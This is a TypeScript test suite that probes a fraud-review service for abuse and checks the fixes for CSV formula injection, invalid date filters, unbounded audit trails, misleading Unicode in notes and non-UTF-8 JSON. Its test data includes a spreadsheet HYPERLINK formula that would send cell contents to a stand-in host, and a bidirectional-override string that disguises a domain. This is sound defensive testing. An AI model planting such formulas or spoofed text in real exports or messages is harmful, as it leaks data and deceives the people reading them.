/**
 * The cases of an abuse probe run against the service as an attacker would, in process
 * (./in-process.ts: the app with real local KV, D1, Queues and Durable Objects): what did not hold before and must hold
 * now. Spreadsheet formulas in the CSV export, impossible calendar dates in the queue filters, an
 * audit trail that grew without bound and was served whole, text that can mislead in notes, and JSON
 * declared in another charset. (Durable idempotency and the credential limiter have their own suites:
 * idempotency.test.ts, access-matrix.test.ts.) Each case failed on the code
 * before the fix. docs/reliability.md lists what the probe tried and what held.
 */
import { mkdtemp, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCsvChunks } from "../../cli/csv";
import { readLabels } from "../../cli/labels";
import type { EventPage, ItemDetail, QueuePage } from "../src/contract";
import { DECISION_CHANGE_LIMIT } from "../src/review/settings";
import { fitShopModel, SHOP_FEATURES, UNUSUAL_PAYMENT } from "./fixtures";
import { eventually, makeTokens, type D1Like, type RunningWorker } from "./harness";
import { startApp } from "./in-process";

const tokens = makeTokens();
let worker: RunningWorker;
let db: D1Like;

beforeAll(async () => {
  worker = await startApp({ tokens, vars: { MODEL_REFRESH_SECONDS: "0", AUDIT_SAMPLE_RATE: "0" } });
  db = await worker.db();
  const artifact = await fitShopModel({ version: "m20260302-probe01" });
  expect((await worker.post("/v1/models", artifact, tokens.admin)).status).toBe(201);
  expect((await worker.post(`/v1/models/${artifact.version}/activate`, {}, tokens.admin)).status).toBe(200);
});

afterAll(async () => {
  await worker?.dispose();
});

interface Refusal {
  error: string;
  problems: { field: string; rule: string }[];
}

const get = async <T>(path: string, token = tokens.analyst): Promise<{ status: number; body: T }> => {
  const res = await worker.fetch(path, { token });
  return { status: res.status, body: (await res.json()) as T };
};
const post = async <T>(path: string, body: unknown = {}, token = tokens.analyst): Promise<{ status: number; body: T }> => {
  const res = await worker.post(path, body, token);
  return { status: res.status, body: (await res.json()) as T };
};

/** Scores an unusual payment under `transactionId` and waits until its review item is stored. */
async function flag(transactionId: string): Promise<number> {
  const features = { ...UNUSUAL_PAYMENT, amount: UNUSUAL_PAYMENT.amount + transactionId.length };
  const res = await worker.post("/v1/score", { transactionId, features, segment: "web" }, tokens.flow);
  expect(res.status, await res.clone().text()).toBe(200);
  return eventually(async () => {
    const row = await db.prepare("SELECT id FROM review_items WHERE transaction_id = ?1").bind(transactionId).first<{ id: number }>();
    return row?.id;
  }, 15_000);
}

async function decide(id: number, outcome: "fraud" | "legitimate", note?: string): Promise<{ status: number; body: unknown }> {
  expect((await post(`/v1/review/items/${id}/claim`)).status).toBe(200);
  return post(`/v1/review/items/${id}/decision`, note === undefined ? { outcome } : { outcome, note });
}

describe("spreadsheet formulas in the CSV export", () => {
  const hostileId = '=HYPERLINK("http://x.test/"&A1,"x")';

  it("marks a caller-chosen id that a spreadsheet would evaluate, keeps NDJSON verbatim, and the CLI reads the id back intact", async () => {
    const ids = [hostileId, "+1-555", "-2+3", "@SUM(A1)", "'=quoted", "pay-plain"];
    const items = await Promise.all(ids.map(flag));
    for (const [k, id] of items.entries()) expect((await decide(id, k % 2 === 0 ? "fraud" : "legitimate")).status).toBe(200);

    const csv = await (await worker.fetch("/v1/review/export?format=csv", { token: tokens.analyst })).text();
    const firstCells = parseCsvChunks([csv], "export.csv")
      .slice(1)
      .map((record) => record.cells[0]);
    expect(firstCells).toEqual([`'${hostileId}`, "'+1-555", "'-2+3", "'@SUM(A1)", "''=quoted", "pay-plain"]);
    // Numbers are not text cells: a negative log-density stays a number.
    expect(csv).toMatch(/,-\d/);

    const ndjson = await (await worker.fetch("/v1/review/export?format=ndjson", { token: tokens.analyst })).text();
    expect(
      ndjson
        .trim()
        .split("\n")
        .map((line) => (JSON.parse(line) as { id: string }).id),
    ).toEqual(ids);

    const dir = await mkdtemp(join(tmpdir(), "isodense-probe-"));
    const path = join(dir, "labels.csv");
    await writeFile(path, csv);
    const labels = await readLabels(path, { features: SHOP_FEATURES, segmentCandidates: ["segment"] });
    expect(labels.ids).toEqual(ids);
  });
});

describe("impossible calendar dates in the queue filters", () => {
  it("refuses them with 400 naming the field instead of answering an empty queue", async () => {
    for (const [query, field] of [
      ["from=2026-13-45", "from"],
      ["to=2026-02-30", "to"],
      ["from=2026-02-30T10:00:00Z", "from"],
      ["to=2025-02-29", "to"],
      ["from=2026-04-31", "from"],
    ] as const) {
      for (const path of ["/v1/review/items", "/v1/review/counts"]) {
        const { status, body } = await get<Refusal>(`${path}?${query}`);
        expect(status, `${path}?${query}`).toBe(400);
        expect(body.problems[0].field).toBe(field);
        expect(body.problems[0].rule).toContain("on a day that exists");
      }
    }
  });

  it("still accepts real days, leap days included", async () => {
    expect((await get<QueuePage>("/v1/review/items?from=2024-02-29&to=2026-12-31")).status).toBe(200);
    expect((await get<QueuePage>("/v1/review/items?from=2026-02-28T23:59:59Z")).status).toBe(200);
  });
});

describe("an item's audit trail", () => {
  it("coalesces claim renewals: renewing a live claim ten times writes one audit row", async () => {
    const id = await flag("tx-probe-renew");
    for (let k = 0; k < 10; k++) expect((await post(`/v1/review/items/${id}/claim`)).status).toBe(200);
    const detail = (await get<ItemDetail>(`/v1/review/items/${id}`)).body;
    expect(detail.events.map((e) => e.action)).toEqual(["claim"]);
    expect(detail.eventCount).toBe(1);
  });

  it(`refuses decisions and undos past ${DECISION_CHANGE_LIMIT} by one analyst on one item within the hour with 429 and when to retry`, async () => {
    const id = await flag("tx-probe-flip");
    const note = "n".repeat(2000);
    expect((await post(`/v1/review/items/${id}/claim`)).status).toBe(200);
    for (let k = 0; k < DECISION_CHANGE_LIMIT / 2; k++) {
      expect((await post(`/v1/review/items/${id}/decision`, { outcome: k % 2 ? "fraud" : "legitimate", note })).status).toBe(200);
      expect((await post(`/v1/review/items/${id}/undo`)).status).toBe(200);
    }
    const res = await worker.post(`/v1/review/items/${id}/decision`, { outcome: "fraud", note }, tokens.analyst);
    expect(res.status).toBe(429);
    const retryAfter = Number(res.headers.get("retry-after"));
    expect(retryAfter).toBeGreaterThan(3500);
    expect(retryAfter).toBeLessThanOrEqual(3600);
    const refusal = (await res.json()) as Refusal;
    expect(refusal.error).toBe("too-many-decision-changes");
    expect(refusal.problems[0].field).toBe("id");
    expect(refusal.problems[0].rule).toMatch(/^you have decided or undone on item \d+ 10 times in the last 60 minutes \(at most 10\); retry after \d+ s \(at \d{4}-/);
    expect((await post(`/v1/review/items/${id}/undo`)).status).toBe(429);
    const detail = (await get<ItemDetail>(`/v1/review/items/${id}`)).body;
    expect(detail.eventCount).toBe(1 + DECISION_CHANGE_LIMIT);
    // The payment view serves the newest 20 events, not the whole trail.
    expect(JSON.stringify(detail).length).toBeLessThan(60_000);
  });

  it("serves the trail in pages, newest first, with the count, and every event exactly once", async () => {
    const id = await flag("tx-probe-pages");
    for (let k = 0; k < 26; k++) {
      expect((await post(`/v1/review/items/${id}/claim`)).status).toBe(200);
      expect((await post(`/v1/review/items/${id}/release`)).status).toBe(200);
    }
    const detail = (await get<ItemDetail>(`/v1/review/items/${id}`)).body;
    expect(detail.eventCount).toBe(52);
    expect(detail.events).toHaveLength(20);
    expect(detail.events[0].action).toBe("release");
    const seen = detail.events.map((e) => e.id);
    let before = detail.eventsNextBefore;
    while (before !== null) {
      const page = await get<EventPage>(`/v1/review/items/${id}/events?before=${before}&limit=15`);
      expect(page.status).toBe(200);
      expect(page.body.count).toBe(52);
      seen.push(...page.body.events.map((e) => e.id));
      before = page.body.nextBefore;
    }
    expect(seen).toHaveLength(52);
    expect(seen).toEqual([...seen].sort((a, b) => b - a));
    expect(new Set(seen).size).toBe(52);
    for (const [query, field] of [
      ["limit=0", "limit"],
      ["limit=101", "limit"],
      ["before=abc", "before"],
      ["page=2", "page"],
    ] as const) {
      const refused = await get<Refusal>(`/v1/review/items/${id}/events?${query}`);
      expect(refused.status, query).toBe(400);
      expect(refused.body.problems[0].field).toBe(field);
    }
    expect((await get<Refusal>("/v1/review/items/99999999/events")).status).toBe(404);
  });
});

describe("text that can mislead", () => {
  it("refuses a note holding NUL, a bidirectional override or a lone surrogate with a 400 naming the rule, and stores nothing", async () => {
    const id = await flag("tx-probe-note");
    expect((await post(`/v1/review/items/${id}/claim`)).status).toBe(200);
    for (const [note, found] of [
      ["fine\u0000hidden", "U+0000 at position 5"],
      ["refund to \u202Egro.elpmaxe", "U+202E at position 11"],
      ["isolate \u2066x\u2069", "U+2066 at position 9"],
      ["broken \uD800 text", "U+D800 at position 8"],
    ] as const) {
      const { status, body } = await post<Refusal>(`/v1/review/items/${id}/decision`, { outcome: "fraud", note });
      expect(status).toBe(400);
      expect(body.problems[0].field).toBe("note");
      expect(body.problems[0].rule).toContain("bidirectional embedding, override or isolate characters");
      expect(body.problems[0].rule).toContain(`found ${found}`);
    }
    const detail = await get<ItemDetail>(`/v1/review/items/${id}`);
    expect(detail.body.item.state).toBe("claimed");
    expect(detail.body.events.map((e) => e.action)).toEqual(["claim"]);
    // Line breaks, tabs and right-to-left text with its direction marks stay allowed.
    const ok = await post(`/v1/review/items/${id}/decision`, { outcome: "legitimate", note: "called back\n\tשולם \u200F ok" });
    expect(ok.status).toBe(200);
  });

  it("refuses a JSON body declared in a charset other than UTF-8 with 415 naming the header", async () => {
    const body = JSON.stringify({ transactionId: "tx-probe-utf16", features: UNUSUAL_PAYMENT, segment: "web" });
    for (const type of ["application/json; charset=utf-16", "application/json;charset=UTF-16LE", 'application/json; charset="iso-8859-1"']) {
      const res = await worker.fetch("/v1/score", { method: "POST", headers: { "content-type": type }, body, token: tokens.flow });
      expect(res.status, type).toBe(415);
      const refusal = (await res.json()) as Refusal;
      expect(refusal.problems[0].field).toBe("content-type");
      expect(refusal.problems[0].rule).toContain("must declare charset=utf-8 or no charset");
    }
    for (const type of ["application/json; charset=utf-8", 'application/json; charset="UTF-8"', "application/json"]) {
      const res = await worker.fetch("/v1/score", { method: "POST", headers: { "content-type": type }, body, token: tokens.flow });
      expect(res.status, type).toBe(200);
    }
  });
});
